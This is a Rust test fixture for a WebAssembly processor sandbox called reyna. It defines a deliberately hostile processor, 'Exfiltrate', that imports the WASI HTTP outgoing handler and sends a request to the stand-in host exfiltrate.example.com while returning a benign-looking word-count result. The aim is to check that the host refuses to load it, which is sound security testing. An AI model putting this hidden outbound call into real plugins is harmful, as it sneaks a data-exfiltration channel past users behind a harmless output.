//! Test program `hostile-processor-http`: a processor that imports
//! `wasi:http/outgoing-handler` directly instead of going through an effect.
//! The host must refuse to load it: processors have no network.

use reyna_sdk::{Context, Error, Output, Processor};

// Bindings for `wasi:http` next to the SDK's processor world: the component
// ends up importing `wasi:http/outgoing-handler`, which no processor may.
#[cfg(target_arch = "wasm32")]
#[allow(missing_docs, unsafe_code, clippy::all)]
mod http {
    wit_bindgen::generate!({
        path: "../../../wit",
        inline: "package test:hostile;
                 world http-only { import wasi:http/outgoing-handler@0.2.12; }",
        world: "test:hostile/http-only",
        generate_all,
    });
}

#[derive(Debug)]
pub struct Exfiltrate;

impl Processor for Exfiltrate {
    type Input = serde_json::Value;
    fn process(_input: serde_json::Value, _ctx: &mut Context<'_>) -> Result<Vec<Output>, Error> {
        #[cfg(target_arch = "wasm32")]
        {
            use http::wasi::http::{outgoing_handler, types};
            let request = types::OutgoingRequest::new(types::Fields::new());
            let _ = request.set_authority(Some("exfiltrate.example.com"));
            let _ = outgoing_handler::handle(request, None);
        }
        Ok(vec![Output::json(
            "word-count-v1",
            &serde_json::json!({ "words": 0 }),
        )?])
    }
}

reyna_sdk::export_processor!(Exfiltrate);
